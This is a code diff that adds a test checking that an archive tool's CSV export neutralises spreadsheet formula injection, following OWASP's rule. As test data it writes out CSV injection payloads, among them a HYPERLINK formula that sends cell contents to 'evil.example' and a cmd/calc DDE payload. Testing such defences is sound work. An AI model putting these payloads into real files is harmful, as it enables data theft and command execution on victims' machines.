@@ -43,3 +43,19 @@ def test_cite_uses_the_capture_date(archive: Archive) -> None:
     c = cite(archive, 3)
     assert c.text.startswith("Maren Holt. “Harbour town opens its newspaper morgue to the public.” The Coastal Ledger, "
                              "November 14, 2023. https://ledger.example/news/2023/11/14/harbour-morgue (accessed ")
+
+
+def test_csv_neutralises_formula_cells(archive: Archive, tmp_path: Path) -> None:
+    """OWASP's CSV injection rule: a cell starting with = + - @ tab or CR gets a leading quote."""
+    add_samples(archive)
+    evil = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "place": "+1+1", "subtitle": "-2+3", "url": "\tTAB", "language": "\r=1"}
+    archive.update(1, **evil, authors=["=1+1", "Maren Holt"])
+    out = tmp_path / "meta.csv"
+    export_csv(archive, [1, 2], out)
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    for key, value in evil.items():
+        assert rows[0][key] == "'" + value
+    assert rows[0]["authors"] == "'=1+1; Maren Holt" and rows[0]["id"] == "1"
+    assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for v in row.values())
